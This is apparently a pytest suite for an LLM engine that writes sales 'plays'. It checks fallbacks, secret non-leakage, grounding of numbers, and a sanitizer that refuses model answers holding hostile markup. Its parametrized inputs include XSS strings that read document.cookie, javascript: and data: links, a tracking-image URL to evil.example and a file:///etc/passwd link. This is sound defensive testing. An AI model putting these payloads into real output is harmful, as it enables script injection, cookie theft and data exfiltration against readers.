"""The LLM engine against a local OpenAI-compatible server (real HTTP): request shape, auth
header, model name, the facts in the prompt, and fallback to the deterministic engine on
timeouts, 5xx, malformed or ungrounded answers, with a visible warning and no secret leaked."""

from __future__ import annotations

import json
import re

import pytest
from test_enrich_shared import enriched_project, sql

from beton_runner.errors import ConfigError
from beton_runner.plays import generate_plays, write_plays
from beton_runner.plays.facts import gather_facts
from beton_runner.plays.llm import LLMSettings
from llm_server.fixture import llm_server, llm_server_session  # noqa: F401

SECRET = "sk-test-Zq8MUST-NEVER-LEAK-4471"
MODEL = "beton-test-model-7b"


@pytest.fixture(scope="module")
def enriched(mock_build, tmp_path_factory):
    return enriched_project(mock_build, tmp_path_factory)


@pytest.fixture(scope="module")
def acme_facts(enriched):
    return gather_facts(enriched, ["acme.io"])


@pytest.fixture
def llm_env(llm_server, monkeypatch):  # noqa: F811
    monkeypatch.setenv("BETON_LLM_BASE_URL", llm_server.url + "/v1")
    monkeypatch.setenv("BETON_LLM_MODEL", MODEL)
    monkeypatch.setenv("BETON_LLM_API_KEY", SECRET)
    monkeypatch.setenv("BETON_LLM_TIMEOUT", "0.4")
    monkeypatch.setenv("BETON_LLM_RETRIES", "1")
    return llm_server


def run(facts_list):
    warnings: list[str] = []
    documents = write_plays(facts_list, "llm", warn=warnings.append)
    return documents, warnings


def assert_no_secret(*texts: str) -> None:
    for text in texts:
        assert SECRET not in text


def prompt_facts(request) -> dict:
    content = request.body["messages"][1]["content"]
    return json.loads(re.search(r"```json\n(.*?)\n```", content, re.S).group(1))


def test_request_shape_auth_model_and_facts_in_prompt(llm_env, acme_facts, enriched):
    documents, warnings = run(acme_facts)
    assert warnings == []
    (request,) = llm_env.requests
    assert request.method == "POST" and request.path == "/v1/chat/completions"
    assert request.headers["Authorization"] == f"Bearer {SECRET}"
    assert request.headers["Content-Type"] == "application/json"
    body = request.body
    assert body["model"] == MODEL and body["stream"] is False
    assert [m["role"] for m in body["messages"]] == ["system", "user"]
    assert "Every number you write must appear in the facts" in body["messages"][0]["content"]
    facts = prompt_facts(request)
    assert facts == json.loads(json.dumps(acme_facts[0]))
    # the prompt's facts are the warehouse's: checked against plain SQL
    row = sql(
        enriched, "select events_30d, active_users_30d from beton_marts.dim_accounts where account_id = 'acc_001'"
    )
    assert facts["usage"]["events_30d"] == row["events_30d"].iloc[0]
    assert facts["usage"]["active_users_30d"] == row["active_users_30d"].iloc[0]
    rules = sql(
        enriched, "select rule_key from beton_inspections.insp_findings where account_id = 'acc_001' order by 1"
    )
    assert sorted(f["rule_key"] for f in facts["findings"]) == rules["rule_key"].tolist()
    assert [c["name"] for c in facts["contacts"]] == ["Alice Chen", "Chloe Park", "Ben Ortiz"]
    assert '"title": "Expansion / seat growth"' in body["messages"][1]["content"]
    (document,) = documents
    assert document.engine == "llm" and not document.fallback and document.plays == ["expansion"]
    assert "Lead with the value the team already gets." in document.markdown  # the model's text
    assert "| PQL: Power Users (`pql_power_users`) | user | Alice Chen | 31.63 | 1 of 3 |" in document.markdown
    assert "*Written by the llm engine" in document.markdown
    assert_no_secret(document.markdown, *warnings)


def test_no_key_means_no_authorization_header(llm_env, acme_facts, monkeypatch):
    monkeypatch.delenv("BETON_LLM_API_KEY")
    documents, warnings = run(acme_facts)
    assert "Authorization" not in llm_env.requests[0].headers and warnings == []


def test_timeout_falls_back_with_a_warning_and_stops_asking(llm_env, enriched):
    llm_env.mode, llm_env.delay = "slow", 1.5
    facts_list = gather_facts(enriched, ["acme.io", "pipewise.app", "northwindlogistics.com"])
    documents, warnings = run(facts_list)
    assert len(llm_env.requests) == 2  # one attempt and one retry, then no more accounts are tried
    assert [d.engine for d in documents] == ["deterministic"] * 3 and all(d.fallback for d in documents)
    assert len(warnings) == 1
    assert "acme.io: the LLM engine failed (POST http://127.0.0.1:" in warnings[0]
    assert "timed out (0.4 s per attempt, 2 attempt(s))" in warnings[0]
    assert "not trying the LLM for the 2 remaining account(s)" in warnings[0]
    assert "the LLM engine could not be used for this account" in documents[0].markdown
    deterministic = write_plays(facts_list[:1], "deterministic")[0].markdown
    assert documents[0].markdown.split("\n---\n")[0] == deterministic.split("\n---\n")[0]
    assert_no_secret(*warnings, *(d.markdown for d in documents))


def test_5xx_is_retried_then_falls_back(llm_env, acme_facts, monkeypatch):
    monkeypatch.setenv("BETON_LLM_RETRIES", "2")
    llm_env.mode, llm_env.status = "error", 503
    documents, warnings = run(acme_facts)
    assert len(llm_env.requests) == 3
    assert documents[0].fallback and "answered HTTP 503 after 3 attempt(s)" in warnings[0]
    assert_no_secret(*warnings)


def test_a_retry_that_succeeds_is_not_a_failure(llm_env, acme_facts):
    llm_env.script = ["error"]
    documents, warnings = run(acme_facts)
    assert len(llm_env.requests) == 2 and warnings == []
    assert documents[0].engine == "llm"


@pytest.mark.parametrize(
    "body, expected",
    [
        (b"<html>upstream gateway error</html>", "with a body that is not a chat completion"),
        (b'{"choices": []}', "with a body that is not a chat completion"),
        (b'{"choices": [{"message": {"content": ""}}]}', "answered with an empty message"),
    ],
)
def test_malformed_answers_fall_back(llm_env, acme_facts, body, expected):
    llm_env.mode, llm_env.malformed_body = "malformed", body
    documents, warnings = run(acme_facts)
    assert len(llm_env.requests) == 1  # a 200 is not retried
    assert documents[0].fallback and expected in warnings[0]


def test_ungrounded_or_incomplete_answers_fall_back(llm_env, acme_facts):
    llm_env.reply = (
        "### Expansion / seat growth\n\n**Why now**\n\n- Offer a 9137% discount on 4823.5 new seats, "
        "Alice Chen has 279 events.\n"
    )
    documents, warnings = run(acme_facts)
    assert documents[0].fallback
    assert "the model wrote numbers that are not in the facts: 9137, 4823.5" in warnings[0]
    llm_env.reply = "### Something else entirely\n\nNo numbers here.\n"
    documents, warnings = run(acme_facts)
    assert "has no section for: Expansion / seat growth" in warnings[0]


def test_grounded_answer_with_numbers_from_the_facts_is_kept(llm_env, acme_facts):
    llm_env.reply = (
        "```markdown\n### Expansion / seat growth\n\n**Why now**\n\n"
        "1. Alice Chen has 279 events on 26 active days.\n2. Events grew +48% to 597.\n```"
    )
    documents, warnings = run(acme_facts)
    assert warnings == [] and documents[0].engine == "llm"
    assert "1. Alice Chen has 279 events on 26 active days." in documents[0].markdown
    assert "```" not in documents[0].markdown


def test_auth_errors_name_the_setting_not_the_secret(llm_env, acme_facts):
    llm_env.mode, llm_env.status = "error", 401
    documents, warnings = run(acme_facts)
    assert len(llm_env.requests) == 1  # 401 is not retried
    assert "answered HTTP 401 (check BETON_LLM_API_KEY)" in warnings[0]
    assert_no_secret(*warnings, repr(LLMSettings.from_env()))


def test_unreachable_server_falls_back(acme_facts, monkeypatch, llm_server):  # noqa: F811
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    monkeypatch.setenv("BETON_LLM_BASE_URL", f"http://user:{SECRET}@127.0.0.1:{port}/v1")
    monkeypatch.setenv("BETON_LLM_MODEL", MODEL)
    monkeypatch.setenv("BETON_LLM_RETRIES", "0")
    documents, warnings = run(acme_facts)
    assert documents[0].fallback and "cannot connect" in warnings[0]
    assert f"POST http://127.0.0.1:{port}/v1/chat/completions" in warnings[0]
    assert_no_secret(*warnings)


def test_llm_settings_are_required(enriched, monkeypatch):
    for name in ("BETON_LLM_BASE_URL", "BETON_LLM_MODEL", "BETON_LLM_API_KEY"):
        monkeypatch.delenv(name, raising=False)
    with pytest.raises(ConfigError, match="--engine llm needs BETON_LLM_BASE_URL and BETON_LLM_MODEL"):
        generate_plays(enriched, ["acme.io"], engine="llm")
    monkeypatch.setenv("BETON_LLM_BASE_URL", "api.example.com")
    monkeypatch.setenv("BETON_LLM_MODEL", MODEL)
    with pytest.raises(ConfigError, match="must start with http"):
        LLMSettings.from_env()


def test_accounts_without_plays_do_not_call_the_model(llm_env, enriched):
    facts_list = gather_facts(enriched, ["harborviewhealth.org"])
    documents, warnings = run(facts_list)
    assert llm_env.requests == [] and warnings == [] and documents[0].plays == []


# --- issue #12: what a model may put into a play, how much, and for how long ----------------------


@pytest.mark.parametrize(
    "injection, refused_for",
    [
        ("![usage chart](https://evil.example/pixel.png?account=acme)", "an image '![usage chart]'"),
        ('<img src=x onerror="alert(1)">', "an image '<img src=x onerror=\"alert(1)\">'"),
        ("<svg onload=alert(1)></svg>", "an image '<svg onload=alert(1)>'"),
        ("<script>alert(document.cookie)</script>", "HTML that can run or load content '<script>'"),
        ('<iframe src="https://evil.example"></iframe>', "HTML that can run or load content"),
        ('<span onmouseover="alert(1)">hover</span>', "HTML with an event handler"),
        (
            "[Book a call](javascript:alert(document.cookie))",
            "a link to 'javascript:alert(document.cookie)' (only http:// and https:// links are allowed)",
        ),
        ("[Book a call](JaVaScRiPt:alert(1))", "a link to 'JaVaScRiPt:alert(1)'"),
        ("[Book a call](&#106;avascript:alert(1))", "a link to '&#106;avascript:alert(1)'"),
        ("[Pricing](data:text/html;base64,PHNjcmlwdD4=)", "a link to 'data:text/html;base64,PHNjcmlwdD4='"),
        ("Open <vbscript:msgbox> now", "a link to 'vbscript:msgbox'"),
        ("[Book a call][cal]\n\n[cal]: file:///etc/passwd", "a link to 'file:///etc/passwd'"),
        ("[Write to us](mailto:sales@beton.example)", "a link to 'mailto:sales@beton.example'"),
        ("<<b>script>alert(1)<</b>/script>", "HTML that can run or load content '<script>'"),  # assembled by stripping
    ],
)
def test_answers_with_images_active_html_or_non_http_links_are_refused(llm_env, acme_facts, injection, refused_for):
    llm_env.injection = injection
    documents, warnings = run(acme_facts)
    assert len(llm_env.requests) == 1
    assert documents[0].fallback and documents[0].engine == "deterministic"
    assert f"the model's answer contains {refused_for}" in warnings[0]
    assert "such answers are refused); the deterministic engine wrote this play instead" in warnings[0]
    assert injection not in documents[0].markdown


def test_harmless_html_is_stripped_and_https_links_kept(llm_env, acme_facts):
    llm_env.injection = (
        "<b>Lead</b> with <i>their</i> wins.<br/><!-- internal: push hard --> Book at "
        '[our calendar](https://cal.example/beton "calendar") or write to <ana@beton.example>.\n\n'
        '<div class="note">Keep it short.</div> a < b and c > d'
    )
    documents, warnings = run(acme_facts)
    assert warnings == [] and documents[0].engine == "llm"
    markdown = documents[0].markdown
    assert (
        'Lead with their wins. Book at [our calendar](https://cal.example/beton "calendar") or write to '
        "ana@beton.example.\n\nKeep it short. a < b and c > d"
    ) in markdown
    assert "<" + "b>" not in markdown and "push hard" not in markdown and "<div" not in markdown


def test_refusing_one_answer_does_not_stop_the_llm_for_the_next_accounts(llm_env, enriched):
    llm_env.injection = "[x](javascript:void(0))"
    facts_list = gather_facts(enriched, ["acme.io", "pipewise.app"])
    documents, warnings = run(facts_list)
    assert len(llm_env.requests) == 2 and len(warnings) == 2
    assert all(d.fallback for d in documents)


@pytest.mark.parametrize(
    "hidden, token",
    [
        ("USD250000", "250000"),
        ("INV7431A", "7431"),
        ("two hundred fifty thousand", "two hundred fifty thousand"),
        ("a million", "a million"),
        ("$250k", "250k"),
        ("2.5 million", "2.5 million"),
    ],
)
def test_numbers_glued_to_letters_or_in_words_are_grounded_too(llm_env, acme_facts, hidden, token):
    llm_env.injection = f"Offer {hidden} off if they sign this week."
    documents, warnings = run(acme_facts)
    assert documents[0].fallback
    assert f"the model wrote numbers that are not in the facts: {token})" in warnings[0]


def test_number_words_from_the_facts_are_grounded(llm_env, acme_facts):
    usage = acme_facts[0]["usage"]
    assert usage["active_users_30d"] == 3  # the mock data: acme has three active users
    llm_env.injection = "All three active users are on board; one of them leads."
    documents, warnings = run(acme_facts)
    assert warnings == [] and "All three active users are on board; one of them leads." in documents[0].markdown


@pytest.mark.parametrize("chunked", [False, True])
def test_a_huge_answer_is_refused_without_reading_it_all(llm_env, acme_facts, chunked):
    llm_env.mode, llm_env.huge_chunked, llm_env.huge_bytes = "huge", chunked, 5_000_000
    documents, warnings = run(acme_facts)
    assert len(llm_env.requests) == 1 and documents[0].fallback
    assert "answered more than 64 KiB; a chat completion with the plays is a few kB" in warnings[0]


def test_an_answer_just_under_the_cap_is_read(llm_env, acme_facts):
    from beton_runner.plays.llm import MAX_ANSWER_BYTES

    assert MAX_ANSWER_BYTES == 65536
    llm_env.mode, llm_env.huge_chunked, llm_env.huge_bytes = "huge", True, 40_000
    documents, warnings = run(acme_facts)
    assert warnings == [] and documents[0].engine == "llm"


def test_a_trickling_server_is_cut_off_at_the_deadline(llm_env, acme_facts, monkeypatch):
    """One byte a second never trips a 3 s read timeout; the 2 s deadline for the whole request ends it."""
    import time

    monkeypatch.setenv("BETON_LLM_TIMEOUT", "3")
    monkeypatch.setenv("BETON_LLM_RETRIES", "0")
    monkeypatch.setenv("BETON_LLM_DEADLINE", "2")
    llm_env.mode, llm_env.trickle_interval, llm_env.trickle_limit = "trickle", 1.0, 8
    started = time.monotonic()
    documents, warnings = run(acme_facts)
    elapsed = time.monotonic() - started
    assert documents[0].fallback and len(llm_env.requests) == 1
    assert (
        "did not answer within its deadline of 2 s (BETON_LLM_DEADLINE: the whole request, retries included)"
        in warnings[0]
    )
    assert 1.9 <= elapsed < 4.0, elapsed


def test_the_deadline_covers_retries(llm_env, acme_facts, monkeypatch):
    """Each attempt times out at 0.4 s; with 5 retries and backoff the deadline of 1.5 s comes first."""
    import time

    monkeypatch.setenv("BETON_LLM_RETRIES", "5")
    monkeypatch.setenv("BETON_LLM_DEADLINE", "1.5")
    llm_env.mode, llm_env.delay = "slow", 1.0
    started = time.monotonic()
    documents, warnings = run(acme_facts)
    assert time.monotonic() - started < 2.5
    assert documents[0].fallback and "did not answer within its deadline of 1.5 s" in warnings[0]


def test_deadline_setting(monkeypatch):
    env = {"BETON_LLM_BASE_URL": "http://127.0.0.1:9/v1", "BETON_LLM_MODEL": MODEL}
    assert LLMSettings.from_env(env).total_deadline == 2 * 60 * 3 + 1.0  # 2 x timeout x attempts + pauses 0 and 1 s
    assert LLMSettings.from_env({**env, "BETON_LLM_DEADLINE": "30"}).total_deadline == 30
    with pytest.raises(ConfigError, match="BETON_LLM_DEADLINE must be positive"):
        LLMSettings.from_env({**env, "BETON_LLM_DEADLINE": "0"})
